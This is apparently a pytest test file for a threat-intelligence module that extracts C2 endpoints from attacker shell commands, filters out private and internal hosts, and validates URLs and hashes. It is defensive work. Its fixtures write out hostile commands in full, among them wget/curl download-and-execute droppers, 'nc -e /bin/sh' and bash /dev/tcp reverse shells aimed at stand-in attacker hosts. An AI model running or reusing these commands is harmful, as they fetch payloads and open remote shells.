"""Payload hashes and C2 endpoints: download URLs, tool targets, exclusions."""

from __future__ import annotations

import pytest

from node.profile.infrastructure import (
    C2Endpoint,
    InternalHosts,
    attachment_hashes,
    command_endpoints,
    exclude_internal,
    mail_urls,
    normalise_host,
    normalise_url,
    tcp_endpoint,
    validate_sha256,
)
from node.profile.rejection import Rejected

SHA = "aa11bb22cc33dd44ee55ff6600112233445566778899aabbccddeeff00112233"


@pytest.mark.parametrize(("command", "endpoints"), [
    ("cd /tmp; wget http://203.0.113.80/x86 -O .x; chmod +x .x; ./.x",
     [C2Endpoint("203.0.113.80", "http://203.0.113.80/x86")]),
    ("curl -fsSL http://203.0.113.80/i.sh | sh",
     [C2Endpoint("203.0.113.80", "http://203.0.113.80/i.sh")]),
    ("curl -s -o /tmp/a https://User:Pw@Evil-Host.COM:8443/a/b?x=1#frag",
     [C2Endpoint("evil-host.com", "https://evil-host.com:8443/a/b?x=1")]),
    ("wget 203.0.113.80/bins.sh", [C2Endpoint("203.0.113.80", "http://203.0.113.80/bins.sh")]),
    ("/bin/busybox wget http://bücher.de/x", [C2Endpoint("xn--bcher-kva.de",
                                                         "http://xn--bcher-kva.de/x")]),
    ("tftp -g -r mips 203.0.113.80", [C2Endpoint("203.0.113.80", "tftp://203.0.113.80/mips")]),
    ("tftp 203.0.113.80 -c get mips", [C2Endpoint("203.0.113.80", "tftp://203.0.113.80/")]),
    ("ftpget -u anon -p x 203.0.113.80 a.out a.out",
     [C2Endpoint("203.0.113.80", "ftp://203.0.113.80/")]),
    ("nc -e /bin/sh 203.0.113.80 4444", [C2Endpoint("203.0.113.80", "tcp://203.0.113.80:4444")]),
    ("ncat c2.evil.net 443", [C2Endpoint("c2.evil.net", "tcp://c2.evil.net:443")]),
    ("bash -i >& /dev/tcp/203.0.113.80/4444 0>&1",
     [C2Endpoint("203.0.113.80", "tcp://203.0.113.80:4444")]),
    ("exec 3<>/dev/udp/c2.evil.net/53", [C2Endpoint("c2.evil.net", "udp://c2.evil.net:53")]),
    ("wget -q -O- http://[2001:db8::80]/x", [C2Endpoint("2001:db8::80", "http://[2001:db8::80]/x")]),
    ("cat /etc/passwd", []),
    ("echo http://203.0.113.80/not-a-download", []),
])
def test_command_endpoints(command: str, endpoints: list[C2Endpoint]) -> None:
    assert list(command_endpoints(command)) == endpoints


@pytest.mark.parametrize("command", [
    "wget http://10.0.0.5/x", "wget http://192.168.1.10/x", "wget http://127.0.0.1/x",
    "wget http://169.254.169.254/latest/meta-data", "nc 172.16.0.1 80",
    "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", "wget http://[fe80::1]/x",
    "wget http://[::1]/x", "wget http://224.0.0.1/x", "wget http://100.64.0.1/x",
])
def test_private_and_reserved_addresses_are_excluded(command: str) -> None:
    assert list(command_endpoints(command)) == [Rejected("host:not_public")]


def test_internal_hosts_are_excluded() -> None:
    internal = InternalHosts.parse("web-02.corp.net, 203.0.113.0/28, not a cidr/99")
    found = command_endpoints("wget http://203.0.113.5/x; curl http://web-02.corp.net/y;"
                              " curl http://203.0.113.80/z")
    assert exclude_internal(found, internal) == [
        Rejected("host:internal"), Rejected("host:internal"),
        C2Endpoint("203.0.113.80", "http://203.0.113.80/z"),
    ]


@pytest.mark.parametrize(("url", "reason"), [
    ("javascript:alert(1)", "url:bad_format"),
    ("http://", "url:bad_format"),
    ("http://host:99999/", "url:bad_format"),
    ("http://printer.local/", "host:reserved_tld"),
    ("http://intranet/", "host:single_label_domain"),
    ("http://" + "a" * 3000 + ".com/", "url:too_long"),
])
def test_bad_urls_are_rejected(url: str, reason: str) -> None:
    assert normalise_url(url) == Rejected(reason)


def test_hosts() -> None:
    assert normalise_host("C2.Evil.NET.") == "c2.evil.net"
    assert normalise_host("[2001:db8::1]") == "2001:db8::1"
    assert normalise_host("::ffff:203.0.113.9") == "203.0.113.9"
    assert normalise_host("10.0.0.1") == Rejected("host:not_public")


def test_tcp_endpoints() -> None:
    assert tcp_endpoint("198.51.100.200", "443") == \
        C2Endpoint("198.51.100.200", "tcp://198.51.100.200:443")
    assert tcp_endpoint("198.51.100.200", "http") == Rejected("port:bad_format")


def test_sha256() -> None:
    assert validate_sha256(SHA.upper()) == SHA
    assert validate_sha256("-") is None
    assert validate_sha256(SHA[:-1]) == Rejected("sha256:bad_format")


def test_attachments_and_mail_urls() -> None:
    assert attachment_hashes(f'[{{"name": "a.exe", "sha256": "{SHA}"}}, {{"name": "b"}}]') == \
        [SHA, Rejected("attachments_json:no_sha256")]
    assert attachment_hashes("[not json") == [Rejected("attachments_json:bad_json")]
    assert mail_urls('["http://198.51.100.77/pay", 3]') == ["http://198.51.100.77/pay"]
    assert mail_urls('{"a": 1}') == Rejected("urls_json:bad_json")
